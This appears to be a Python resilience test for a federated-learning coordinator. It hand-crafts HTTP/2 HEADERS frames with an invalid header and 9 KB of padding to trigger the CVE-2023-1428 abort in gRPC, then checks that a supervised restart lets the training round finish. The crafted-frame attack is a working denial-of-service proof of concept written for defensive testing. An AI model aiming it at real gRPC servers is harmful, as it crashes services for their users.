"""A29: a coordinator that a peer makes abort is back at once, and its round goes on.

gRPC 1.51 can be made to abort() by headers (CVE-2023-1428: one of them with an
impossible value, then enough others to pass 8 KiB). Only a holder of a valid
client certificate gets that far, and the supervisor (here a loop as systemd's
Restart=always is one) starts the process again. Whether this build dies is not
asserted; that the run finishes, masked, is. The enrolment port, which anybody
may call, is another process: what happens there does not reach the coordinator.
"""

import json
import socket
import ssl
import threading
import time

from fleet import FleetTestCase, main

RUN = """
[lora]
rank = 4
[train]
lr = 1e-2
steps = 4
batch = 4
[rounds]
count = 2
cohort = 4
deadline = "2m"
reconnect_grace = "20s"
[secagg]
n_min = 4
"""

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"


def frame(kind, flags, stream, payload):
    return (len(payload).to_bytes(3, "big") + bytes([kind, flags])
            + stream.to_bytes(4, "big") + payload)


def varint(value, prefix=7):
    """RFC 7541, 5.1."""
    limit = (1 << prefix) - 1
    if value < limit:
        return bytes([value])
    out = [limit]
    value -= limit
    while value >= 128:
        out.append(value % 128 + 128)
        value //= 128
    return bytes(out + [value])


def literal(name, value):
    """RFC 7541, 6.2.2: a header that is not indexed, without Huffman coding."""
    return b"\0" + varint(len(name)) + name.encode() + varint(len(value)) + value.encode()


def headers(broken):
    """A request of which one header cannot be, and a long one after it."""
    fields = {":method": "POST", ":scheme": "https", ":authority": "localhost",
              ":path": "/edgetune.v1.Federation/QueryUpload",
              "content-type": "application/grpc", "te": "trailers", **broken}
    # gRPC reads them in the order sent: pseudo headers first.
    block = b"".join(literal(name, value) for name, value in fields.items())
    return block + literal("padding", "x" * 9000)


TRICKS = [{"te": "x"}, {":scheme": "x"}, {"grpclb_client_stats": "x"}]


def attack(port, context):
    """Every trick on a connection of its own; how many reached HTTP/2."""
    reached = 0
    for trick in TRICKS:
        try:
            with socket.create_connection(("localhost", port), timeout=5) as raw:
                with context.wrap_socket(raw, server_hostname="localhost") as peer:
                    peer.settimeout(2)
                    peer.sendall(PREFACE + frame(4, 0, 0, b"")
                                 + frame(1, 5, 1, headers(trick)))
                    # The server's settings come before anything is refused.
                    reached += bool(peer.recv(4096))
                    while peer.recv(4096):
                        pass
        except OSError:
            continue
    return reached


def tls(ca, certificate=None):
    context = ssl.create_default_context(cafile=ca)
    context.set_alpn_protocols(["h2"])
    if certificate is not None:
        context.load_cert_chain(certificate)
    return context


class Supervisor(threading.Thread):
    """Starts the server again whenever it ends by itself."""

    def __init__(self, fleet):
        super().__init__(daemon=True)
        self.fleet = fleet
        self.server = fleet.start_server()
        self.restarts = 0
        self.over = threading.Event()

    def run(self):
        while not self.over.is_set():
            if self.server.poll() is None:
                time.sleep(0.05)
                continue
            time.sleep(0.1)
            self.restarts += 1
            self.server = self.fleet.start_server(self.fleet.port)

    def end(self):
        self.over.set()
        self.join()


class SupervisedTest(FleetTestCase):
    device_count = 5

    def test_A29AbortedCoordinatorComesBackAndTheRoundCompletes(self):
        fleet = self.fleet
        supervisor = Supervisor(fleet)
        supervisor.start()
        self.addCleanup(supervisor.end)
        fleet.start_clients(self.devices[:4])
        run = fleet.submit(fleet.write_run("masked", RUN))
        kit = fleet.folder / "kits/devices/device-5"
        reached = attack(fleet.port, tls(kit / "ca.pem", kit / "tls.pem"))
        self.assertGreater(reached, 0)
        status = self.wait_finished(run)
        self.assertEqual(status["state"], "finished", f"{status}\n{fleet.logs()}")
        self.assertEqual(status["rounds_done"], 2)
        self.assertTrue(status["masked"])
        print(f"the coordinator was restarted {supervisor.restarts} times")

    def test_A29WithoutACertificateTheTrickDoesNotArrive(self):
        fleet = self.fleet
        server = fleet.start_server()
        ca = fleet.folder / "kits/devices/device-5/ca.pem"
        self.assertEqual(attack(fleet.port, tls(ca)), 0)
        self.assertIsNone(server.poll())
        fleet.tool_json("run", "list", *fleet.operator())

    def wait_finished(self, run):
        """As Fleet.wait_ended, but an operator's call may meet a dead server."""
        status = {}

        def ended():
            nonlocal status
            result = self.fleet.run_tool("run", "show", run, *self.fleet.operator(),
                                         "--format", "json", check=False)
            if result.returncode != 0:
                return False
            status = json.loads(result.stdout)["data"]
            return status["state"] in ("finished", "failed", "stopped")
        self.fleet.wait_for(ended, 200, pause=0.3)
        return status


if __name__ == "__main__":
    main(__doc__)
